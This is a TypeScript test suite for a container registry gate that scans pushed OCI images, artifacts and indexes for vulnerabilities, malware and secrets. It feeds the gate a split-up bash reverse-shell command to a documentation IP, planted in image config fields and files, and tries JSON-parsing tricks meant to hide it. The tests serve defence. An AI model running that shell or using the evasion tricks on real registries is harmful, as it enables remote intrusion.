/** All pushed content is judged by its bytes, whatever its declared type. */
import { createHash, generateKeyPairSync } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { digestOf } from '../../blobs/index.ts';
import { parsePolicy } from '../../gate/index.ts';
import { indexMediaType, manifestMediaType } from '../../images/index.ts';
import { type GateFolder, lodash, lodashAdvisory, openPlace, tarOf } from './guarded.fixture.ts';

const deadline = { timeout: 30_000, interval: 20 };
const shell = `bash -c 'ba${''}sh -i >& /dev/t${''}cp/192.0.2.1/4444 0>&1'`;
const key = generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
const imageConfig = 'application/vnd.oci.image.config.v1+json';
const layerType = 'application/vnd.oci.image.layer.v1.tar+gzip';
let place: GateFolder;
let count = 0;
let repository: string;

beforeAll(async () => {
  place = await openPlace();
  await place.advisories(lodashAdvisory);
  await vi.waitFor(async () => expect((await place.audit()).at(-1)?.event).toBe('advisories'), deadline);
});
afterAll(() => place[Symbol.asyncDispose]());
beforeEach(async () => {
  repository = `guest/content-${++count}`;
  await policyInForce('rules: {}');
});

async function policyInForce(text: string): Promise<void> {
  await place.policy(text);
  const { revision } = parsePolicy(`form: 1\n${text}`);
  const isLast = async () =>
    (await place.audit()).findLast(({ event }) => event === 'policy')?.policyRevision === revision;
  await vi.waitFor(async () => expect(await isLast()).toBe(true), deadline);
}

interface Part {
  readonly type: string;
  readonly bytes: Buffer;
  readonly title?: string;
}

const describePart = ({ type, bytes, title }: Part) => ({
  mediaType: type,
  digest: digestOf(bytes),
  size: bytes.length,
  ...(title === undefined ? {} : { annotations: { 'org.opencontainers.image.title': title } }),
});

/** The answer: `201`, or the gate's message. */
async function push(config: Part, layers: readonly Part[], more: object = {}): Promise<string> {
  const value = { config: describePart(config), layers: layers.map(describePart), ...more };
  return pushManifest(value, [config, ...layers]);
}

async function pushManifest(
  value: object,
  parts: readonly Part[],
  type = manifestMediaType,
): Promise<string> {
  for (const { bytes } of parts) await place.pushBlob(repository, bytes);
  const manifest = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: type, ...value }));
  const answer = await place.call('PUT', `/v2/${repository}/manifests/v1`, manifest, type);
  if (answer.status === 201) return '201';
  const { errors } = JSON.parse(await answer.text());
  return `${answer.status} ${errors[0].message}`;
}

const file = (text: string, title?: string, type = 'application/octet-stream'): Part => ({
  type,
  bytes: Buffer.from(text),
  ...(title === undefined ? {} : { title }),
});
const nothing = file('{}', undefined, 'application/vnd.oci.empty.v1+json');

async function vulnerable() {
  const tar = await tarOf(lodash('4.17.20'));
  return { tar, bytes: gzipSync(tar) };
}

const configOf = (tars: readonly Buffer[]) =>
  JSON.stringify({
    architecture: 'amd64',
    os: 'linux',
    config: { User: '1000' },
    rootfs: { type: 'layers', diff_ids: tars.map((tar) => digestOf(tar)) },
  });

describe('an image', () => {
  it.each([
    ['application/octet-stream', 'application/octet-stream'],
    ['text/html', 'text/html'],
    ['application/vnd.oci.empty.v1+json', 'application/json'],
    ['application/vnd.example.config', 'text/plain'],
    ['application/vnd.oci.image.config.v1+json', 'application/vnd.dev.cosign.simplesigning.v1+json'],
  ])('with a configuration of type %s and layers of type %s is judged as an image', async (config, layer) => {
    const { tar, bytes } = await vulnerable();
    expect(await push(file(configOf([tar]), undefined, config), [{ type: layer, bytes }])).toMatch(
      /^403 denied by policy \(vulnerabilities\.limits\.high\): .*CVE-2021-23337/,
    );
  });

  it('that declares itself an artifact is judged as an image, exempt or not', async () => {
    await policyInForce('rules: { artifacts: { exempt: ["*"] } }');
    const { tar, bytes } = await vulnerable();
    const answer = await push(file(configOf([tar]), undefined, 'text/html'), [{ type: 'text/html', bytes }], {
      artifactType: 'application/vnd.example',
    });
    expect(answer).toMatch(/^403 denied by policy/);
  });

  it.each([
    ['a key twice', (text: string) => text.replace(/}$/, ',"rootfs":{}}')],
    [
      'keys in another case',
      (text: string) => text.replace('rootfs', 'RootFS').replace('diff_ids', 'Diff_IDs'),
    ],
    ['keys in escapes', (text: string) => text.replace('diff_ids', 'dif\\u0066_id\\u017f')],
  ])('with %s in its configuration is not accepted as harmless', async (_what, change) => {
    const { tar, bytes } = await vulnerable();
    const config = file(change(configOf([tar])), undefined, 'application/octet-stream');
    expect(await push(config, [{ type: 'text/html', bytes }])).toMatch(/^403 /);
  });

  const command = JSON.stringify(['sh', '-c', shell]);
  it.each([
    ['in another case', `"config":{"entrypoint":${command}}`],
    ['in another case, with escapes', `"config":{"\\u0043MD":${command}}`],
    ['in a duplicate object, which Go merges', `"config":{"Cmd":${command}},"config":{}`],
    ['in an object in another case', `"Config":{"Cmd":${command}}`],
  ])('with a command %s is refused as unread', async (_what, part) => {
    const tar = await tarOf({ run: '#!/bin/sh\n' });
    const config = file(`{${part},${configOf([tar]).slice(1)}`, undefined, imageConfig);
    expect(await push(config, [{ type: layerType, bytes: gzipSync(tar) }])).toMatch(
      /^403 not judged, so the rule unscanned refuses it: .*(?:twice|which some would read as another)/,
    );
  });

  it.each([
    ['checks its health', { Healthcheck: { Test: ['CMD-SHELL', shell] } }],
    ['is run when another is built on it', { OnBuild: [`RUN ${shell}`] }],
    ['is the shell of what is run', { Shell: ['sh', '-c', shell] }],
    ['is run, beside a field of the wrong type', { Cmd: ['sh', '-c', shell], ExposedPorts: 5 }],
  ])('with a command that %s is judged by it', async (_what, more) => {
    const tar = await tarOf({ run: '#!/bin/sh\n' });
    const config = file(
      JSON.stringify({ ...JSON.parse(configOf([tar])), config: more }),
      undefined,
      imageConfig,
    );
    expect(await push(config, [{ type: layerType, bytes: gzipSync(tar) }])).toMatch(
      /^403 denied by policy \(malware\): .*reverse-shell-bash/,
    );
  });

  it('with a configuration that is too long is refused as unread, with its own message', async () => {
    const tar = await tarOf({ run: '#!/bin/sh\n' });
    const long = configOf([tar]).replace(/}$/, `,"x":"${'x'.repeat(5 * 1024 * 1024)}"}`);
    const answer = await push(file(long, undefined, imageConfig), [
      { type: layerType, bytes: gzipSync(tar) },
    ]);
    expect(answer).toMatch(/^403 not judged, .*: config sha256:\w+ has more than 4 MiB/);
    expect(answer).not.toContain(place.dataDir);
  });

  it('with a layer that only other engines unpack is refused as unread, with a hint', async () => {
    const bytes = Buffer.concat([Buffer.from('fd377a585a00', 'hex'), Buffer.alloc(600, 1)]);
    const config = file(configOf([bytes]), undefined, 'application/octet-stream');
    expect(await push(config, [{ type: 'application/octet-stream', bytes }])).toMatch(
      /^403 not judged, so the rule gaps refuses it: could not be read: the layer sha256:.*; leave it out/,
    );
  });

  it('whose layer is stored elsewhere is refused as unread, unless the policy allows gaps', async () => {
    const { tar, bytes } = await vulnerable();
    const type = 'application/vnd.oci.image.layer.nondistributable.v1.tar+gzip';
    const config = file(configOf([tar]), undefined, 'application/vnd.oci.image.config.v1+json');
    const layers = [{ ...describePart({ type, bytes }), urls: ['https://example.org/x'] }];
    const missing = { ...layers[0], digest: digestOf(`not here ${repository}`) };
    const value = { config: describePart(config), layers: [missing] };
    expect(await pushManifest(value, [config])).toMatch(/^403 not judged, .*clients get it from elsewhere/);
    await policyInForce('rules: { gaps: warn }');
    expect(await pushManifest(value, [config])).toBe('201');
    // An image whose layer was pushed is scanned like any other.
    const whole = { config: describePart(config), layers };
    expect(await pushManifest(whole, [config, { type, bytes }])).toMatch(/^403 denied by policy/);
  });

  it('is judged even if SHA-512 names it', async () => {
    const { tar, bytes } = await vulnerable();
    const config = file(configOf([tar]), undefined, 'application/vnd.oci.image.config.v1+json');
    const layer = { type: 'application/vnd.oci.image.layer.v1.tar+gzip', bytes };
    const long = `sha512:${createHash('sha512').update(bytes).digest('hex')}`;
    const begun = `/v2/${repository}/blobs/uploads/?digest=${long}`;
    expect((await place.call('POST', begun, bytes, 'application/octet-stream')).status).toBe(201);
    const value = { config: describePart(config), layers: [{ ...describePart(layer), digest: long }] };
    expect(await pushManifest(value, [config])).toMatch(/^403 denied by policy.*CVE-2021-23337/);
  });
});

describe('an artifact', () => {
  it.each([
    ['malware', shell, /^403 denied by policy \(malware\): 1 malware \[reverse-shell-bash at start\.sh/],
    ['a secret', key, /^403 denied by policy \(secrets\): 1 secrets \[.* at start\.sh/],
  ])('of one file with %s is refused, with the file’s name', async (_what, text, answer) => {
    const type = 'application/vnd.example.file';
    expect(await push(nothing, [file(text, 'start.sh', type)], { artifactType: type })).toMatch(answer);
  });

  it('of harmless files is accepted, and so is an empty one', async () => {
    expect(await push(nothing, [file('hello', 'read.me', 'text/plain')])).toBe('201');
    expect(await push(nothing, [])).toBe('201');
  });

  it('that calls its file a layer is judged as a file', async () => {
    const type = 'application/vnd.oci.image.layer.v1.tar';
    expect(await push(nothing, [file('hello', 'read.me', type)])).toBe('201');
    expect(await push(nothing, [file(shell, 'read.me', type)])).toMatch(/^403 denied by policy \(malware\)/);
  });

  it('that is an archive is unpacked and scanned', async () => {
    const { tar, bytes } = await vulnerable();
    for (const content of [tar, bytes]) {
      const answer = await push(nothing, [
        { type: 'application/vnd.cncf.helm.chart.content.v1.tar+gzip', bytes: content },
      ]);
      expect(answer).toMatch(/^403 denied by policy \(vulnerabilities\.limits\.high\): .*CVE-2021-23337/);
    }
  });

  it('whose configuration has bad content is refused, too', async () => {
    const config = file(JSON.stringify({ run: shell }), undefined, 'application/vnd.example.config+json');
    expect(await push(config, [file('hello')])).toMatch(/^403 denied by policy \(malware\)/);
  });

  it('cannot hide content of one blob through another', async () => {
    const bad = await tarOf({ 'app/start.sh': shell });
    const whiteout = await tarOf({ 'app/.wh.start.sh': '' });
    const type = 'application/vnd.example.tar';
    expect(
      await push(nothing, [
        { type, bytes: bad },
        { type, bytes: whiteout },
      ]),
    ).toMatch(/^403 denied by policy/);
  });

  it('that is a document about an image is scanned like a file', async () => {
    const type = 'application/spdx+json';
    expect(
      await push(nothing, [file('{"spdxVersion":"SPDX-2.3"}', 'sbom.json', type)], { artifactType: type }),
    ).toBe('201');
    const bad = file(JSON.stringify({ note: key }), 'sbom.json', type);
    expect(await push(nothing, [bad], { artifactType: type })).toMatch(/^403 denied by policy \(secrets\)/);
  });

  it('is accepted without a scan if the policy exempts its kind, and the audit log says so', async () => {
    await policyInForce('rules: { artifacts: { exempt: ["application/vnd.example.*"] } }');
    const push2 = (artifactType: string) => push(nothing, [file(shell, 'x', artifactType)], { artifactType });
    expect(await push2('application/vnd.example.model')).toBe('201');
    expect((await place.audit()).at(-1)?.summary).toBe(
      'allowed by policy, not scanned: artifacts of the kind application/vnd.example.model are exempt',
    );
    expect(await push2('application/vnd.other')).toMatch(/^403 denied by policy \(malware\)/);
  });
});

describe('an index', () => {
  it('that lists files is judged by their content', async () => {
    const listed = file(shell, 'x.sh', 'application/vnd.buildkit.layer');
    const value = { manifests: [describePart(listed)] };
    expect(await pushManifest(value, [listed], indexMediaType)).toMatch(/^403 denied by policy \(malware\)/);
    const harmless = file('hello', 'x.txt', 'application/vnd.buildkit.layer');
    expect(await pushManifest({ manifests: [describePart(harmless)] }, [harmless], indexMediaType)).toBe(
      '201',
    );
  });

  it('that lists layers is judged by their content', async () => {
    const { bytes } = await vulnerable();
    const layer = { type: 'application/vnd.oci.image.layer.v1.tar+gzip', bytes };
    expect(await pushManifest({ manifests: [describePart(layer)] }, [layer], indexMediaType)).toMatch(
      /^403 denied by policy \(vulnerabilities/,
    );
  });
});

describe('a policy that only warns', () => {
  const audit = `rules:
  vulnerabilities: { action: warn, knownExploited: warn, epss: { action: warn } }
  malware: { action: warn }
  secrets: { action: warn }
  gaps: warn
  unscanned: warn`;

  it('denies nothing: not bad content, unreadable content, or content that is not an image', async () => {
    await policyInForce(audit);
    const { tar, bytes } = await vulnerable();
    const imageConfig = 'application/vnd.oci.image.config.v1+json';
    const layer = 'application/vnd.oci.image.layer.v1.tar+gzip';
    expect(await push(file(configOf([tar]), undefined, imageConfig), [{ type: layer, bytes }])).toBe('201');
    expect(await push(file('{}', undefined, imageConfig), [{ type: layer, bytes }])).toBe('201');
    const other = file(configOf([Buffer.from('other')]), undefined, imageConfig);
    expect(await push(other, [{ type: layer, bytes }])).toBe('201');
    expect(await push(nothing, [file(shell, 'x.sh')])).toBe('201');
    expect((await place.audit()).slice(-4).map(({ outcome }) => outcome)).toEqual([
      'warn',
      'warn',
      'warn',
      'warn',
    ]);
  });
});
